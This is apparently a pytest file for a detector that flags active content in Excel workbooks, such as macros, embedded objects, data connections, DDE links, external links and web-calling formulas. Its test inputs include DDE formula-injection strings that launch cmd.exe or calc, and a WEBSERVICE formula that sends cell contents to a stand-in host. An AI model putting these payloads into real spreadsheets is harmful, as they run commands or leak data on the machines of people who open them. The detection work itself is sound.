"""What is active in a book is named before the book is used."""

from __future__ import annotations

import pytest

from arsheet.hosts.contents import Content, active_contents, problem_of, xls_contents
from arsheet.hosts.package import Package
from tests.hosts import hostile
from tests.hosts.hostile import DOC, MAIN, PKG, ROWS, XML

RELS = f'{XML}<Relationships xmlns="{PKG}/relationships">{{}}</Relationships>'
FORMULA = '<row r="1"><c r="A1"><f>{}</f><v>1</v></c></row>'
LINK = "xl/externalLinks/externalLink1.xml"


def found(extra: dict[str, str], xml: str = "") -> set[tuple[str, str]]:
    members = hostile.parts(xml, extra={name: text.encode() for name, text in extra.items()})
    return {(each.kind, each.detail) for each in active_contents(Package(hostile.zipped(members)))}


def test_a_quiet_book_has_none() -> None:
    assert found({}) == set()
    assert found({}, hostile.sheet(FORMULA.format("SUM(A1:A9)*2"))) == set()
    assert problem_of(()) is None


@pytest.mark.parametrize(("extra", "expected"), [
    ({"xl/vbaProject.bin": "x"}, {("macros", "")}),
    ({"xl/macrosheets/sheet1.xml": "<a/>"}, {("macros", "")}),
    ({"xl/embeddings/oleObject1.bin": "x"}, {("embedded_object", "")}),
    ({"xl/activeX/activeX1.xml": "<a/>"}, {("embedded_object", "")}),
    ({"xl/connections.xml": f'<connections xmlns="{MAIN}"><connection name="银行" odcFile="pwd=1"/></connections>'},
     {("query", ""), ("query", "银行")}),
    ({"xl/queryTables/queryTable1.xml": "<a/>"}, {("query", "")}),
    ({"customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">x</DataMashup>'},
     {("query", "Power Query")}),
    ({LINK: f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'},
     {("dde", "cmd|/c calc")}),
    ({"xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(
        f'<Relationship Id="r1" Type="{DOC}/externalLinkPath" TargetMode="External" Target="https://me:pw@a.cn/b.xlsx"/>')},
     {("external_link", "https://a.cn/b.xlsx")}),
    ({"xl/worksheets/_rels/sheet1.xml.rels": RELS.format(
        f'<Relationship Id="r1" Type="{DOC}/hyperlink" TargetMode="External" Target="https://a.cn/"/>')}, set()),
])  # fmt: skip
def test_parts(extra: dict[str, str], expected: set[tuple[str, str]]) -> None:
    assert found(extra) == expected


@pytest.mark.parametrize(("formula", "kind"), [
    ("_xlfn.WEBSERVICE(&quot;http://a.cn/&quot;&amp;A1)", "web_formula"),
    ("webservice(A1)", "web_formula"),
    ("IMAGE(A1)", "web_formula"),
    ("RTD(&quot;a.b&quot;,,1)", "web_formula"),
    ('HYPERLINK("file:///c:/x.exe","x")', "web_formula"),
    ("cmd|'/c calc'!A0", "dde"),
    ("1+MSEXCEL|'\\..\\cmd.exe'!A1", "dde"),
])  # fmt: skip
def test_formulas(formula: str, kind: str) -> None:
    assert {each[0] for each in found({}, hostile.sheet(FORMULA.format(formula)))} == {kind}


def test_text_that_looks_like_a_formula_is_text() -> None:
    assert found({}, hostile.sheet(ROWS.replace(">x<", ">=cmd|'/c calc'!A0<"))) == set()


def test_old_files_tell_by_their_storages() -> None:
    assert xls_contents(b"..." + "_VBA_PROJECT_CUR".encode("utf-16-le")) == (Content("macros", "_VBA_PROJECT_CUR"),)
    assert xls_contents(b"...") == ()


def test_the_note_names_kinds_and_a_few_examples() -> None:
    problem = problem_of([Content("query", "a", "银行"), Content("macros", "xl/vbaProject.bin")], "invoices")
    assert problem is not None
    assert (problem.code, problem.table) == ("workbook_has_active_content", "invoices")
    assert problem.facts["kinds_zh"] == "宏、查询或数据连接"
    assert problem.facts["names"] == ["银行", "xl/vbaProject.bin"]
